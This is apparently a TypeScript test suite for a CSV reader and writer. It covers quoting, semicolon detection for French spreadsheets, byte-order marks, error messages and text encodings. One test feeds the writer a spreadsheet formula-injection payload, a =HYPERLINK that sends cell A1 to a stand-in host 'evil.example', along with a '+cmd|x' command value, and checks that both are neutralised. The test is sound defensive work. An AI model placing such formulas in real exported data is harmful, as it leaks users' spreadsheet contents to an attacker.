import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import iconv from 'iconv-lite';
import { decodeText, detectDelimiter, parseCsv, toCsv } from './csv.ts';

describe('CSV reading', () => {
  it('reads quoted fields with commas, doubled quotes and line breaks, keeping the line where each record starts', () => {
    const text = 'a,b,c\n1,"deux, trois","dit ""oui"""\n"sur\ndeux lignes",x,y\r\n\n4,5,6\n';
    const { records, errors } = parseCsv(text);
    assert.deepEqual(errors, []);
    assert.deepEqual(
      records.map((r) => [r.line, r.fields]),
      [
        [1, ['a', 'b', 'c']],
        [2, ['1', 'deux, trois', 'dit "oui"']],
        [3, ['sur\ndeux lignes', 'x', 'y']],
        [6, ['4', '5', '6']],
      ],
    );
  });

  it('detects semicolons from the header, as French spreadsheets write them', () => {
    assert.equal(detectDelimiter('Nom;Projet;"a,b"\n1;2;3'), ';');
    assert.equal(detectDelimiter('Nom,Projet\n1,2'), ',');
    assert.deepEqual(parseCsv('a;b\n"1,5";2').records[1]!.fields, ['1,5', '2']);
  });

  it('strips a byte-order mark and keeps empty fields', () => {
    const { records } = parseCsv('\ufeffa,b,c\n,,\n');
    assert.deepEqual(records[0]!.fields, ['a', 'b', 'c']);
    assert.deepEqual(records[1]!.fields, ['', '', '']);
  });

  it('reports malformed quoting with its line', () => {
    assert.deepEqual(parseCsv('a,b\n1,x"y\n').errors, [
      { line: 2, message: 'Guillemet au milieu d’un champ non entouré de guillemets.' },
    ]);
    const unterminated = parseCsv('a,b\n1,2\n3,"sans fin\n\n');
    assert.equal(unterminated.errors.length, 1);
    assert.equal(unterminated.errors[0]!.line, 3);
    assert.match(unterminated.errors[0]!.message, /sans guillemet fermant/);
  });
});

describe('CSV writing', () => {
  it('quotes only what needs it and round-trips through the reader', () => {
    const rows = [
      ['Nom', 'Description', 'Vide'],
      ['Ville de Metz', 'Ligne 1\nligne 2, avec « guillemets » et "doubles"', null],
      [' espace', 12.5, ''],
    ];
    const csv = toCsv(rows);
    assert.ok(csv.startsWith('Nom,Description,Vide\r\nVille de Metz,"Ligne 1\nligne 2'));
    assert.ok(csv.endsWith('\r\n'));
    const back = parseCsv(csv).records.map((r) => r.fields);
    assert.deepEqual(back, [
      ['Nom', 'Description', 'Vide'],
      ['Ville de Metz', 'Ligne 1\nligne 2, avec « guillemets » et "doubles"', ''],
      [' espace', '12.5', ''],
    ]);
  });

  it('neutralises cells a spreadsheet would run as formulas (one writer for the product)', () => {
    const csv = toCsv([['=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', '+cmd|x', '=Ville', '-3']]);
    assert.deepEqual(parseCsv(csv).records[0]!.fields, [
      `'=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")`,
      "'+cmd|x",
      "'=Ville",
      '-3',
    ]);
  });

  it('can start with a byte-order mark for spreadsheet software', () => {
    assert.ok(toCsv([['a']], { bom: true }).startsWith('\ufeffa'));
  });
});

describe('decoding', () => {
  it('reads UTF-8, and Windows-1252 when the bytes are not UTF-8', () => {
    assert.equal(decodeText(Buffer.from('Métropole', 'utf8')), 'Métropole');
    assert.equal(decodeText(iconv.encode('Métropole – œuvre', 'win1252')), 'Métropole – œuvre');
  });
});
